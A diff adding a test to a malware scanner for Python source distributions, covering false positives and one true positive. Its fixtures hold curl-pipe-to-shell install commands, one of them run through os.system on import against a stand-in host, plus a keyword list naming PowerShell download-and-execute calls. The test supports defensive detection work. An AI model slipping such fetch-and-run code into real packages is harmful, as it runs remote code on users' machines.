@@ -658,3 +658,37 @@ def test_tests_nothing_imports_get_the_text_pass() -> None:
     imported = sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": "from tests import test_net\n",
                                           **tests})
     assert [s for s in facts_of(imported).signals if s.kind == "net.request" and s.file == "tests/test_net.py"]
+
+
+def test_third_held_out_batch_shapes() -> None:
+    """Causes behind the third held-out batch's false positives: an install instruction inside a message
+    (dlt), a keyword table in a file that starts nothing (oletools), version reading through a regex or
+    compile (glob2, pilkit), a test runner called only under ``'test' in sys.argv`` beside the font download
+    of setup.py (reportlab), a CI script in .github/ (shfmt-py), a completion script's comment (grunt-cli)."""
+    files = {
+        "helperlib/req.py": "import shutil\n\ndef need_uv():\n    if not shutil.which('uv'):\n"
+                            "        raise RuntimeError('`uv` is required to export dependencies but was not found. "
+                            "Install it with: curl -LsSf https://astral.sh/uv/install.sh | sh')\n",
+        "helperlib/keywords.py": "SUSPICIOUS = {'Invoke-Expression': 'runs code', 'DownloadString': 'downloads'}\n",
+        "helperlib/pkgmeta.py": "__version__ = '3.0'\n",
+        ".github/workflows/checksums.py": "import os, requests\nrequests.get('https://api.github.com/repos/x/y/releases',"
+                                         " headers={'Authorization': 'Bearer ' + os.environ['GITHUB_TOKEN']})\n",
+        "completion/bash": "# Add this line to your ~/.bashrc: eval \"$(tool --completion=bash)\"\ncomplete -F _t t\n",
+    }
+    setup = ("import os, re, sys, subprocess, urllib.request\nfrom setuptools import setup\n"
+             "version_re = re.compile(r'__version__ = (.*)')\nfp = open(os.path.join('helperlib', 'pkgmeta.py'))\n"
+             "for line in fp:\n    match = version_re.search(line)\n    if match:\n"
+             "        version = eval(match.group(1))\n"
+             "pkgmeta = {}\nwith open('helperlib/pkgmeta.py') as f:\n"
+             "    code = compile(f.read(), 'pkgmeta.py', 'exec')\n    exec(code, pkgmeta)\n\n"
+             "def sp_call(cmd):\n    return subprocess.call([sys.executable, 'runAll.py', cmd])\n\n"
+             "def get_fonts():\n    data = urllib.request.urlopen('https://www.example.org/fonts.zip').read()\n"
+             "    open('src/fonts.zip', 'wb').write(data)\n\n"
+             "def main():\n    if 'test' in sys.argv:\n        return sp_call('test')\n    get_fonts()\n"
+             "    setup(name='helperlib', version=version)\n\nmain()\n")
+    _, findings = verdict(sdist("helperlib", "0.1", {"setup.py": setup, "helperlib/__init__.py": "", **files}))
+    assert not [f for f in findings if f.endswith(":critical")], findings
+    assert findings == ["package.install-network:high"], findings  # the font download itself is real
+    runs = ("import os\nINSTALL = 'curl -LsSf https://x.example.net/i.sh | sh'\n\n"
+            "def go():\n    os.system(INSTALL)\n\ngo()\n")
+    assert verdict(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": runs}))[0] != "clean"
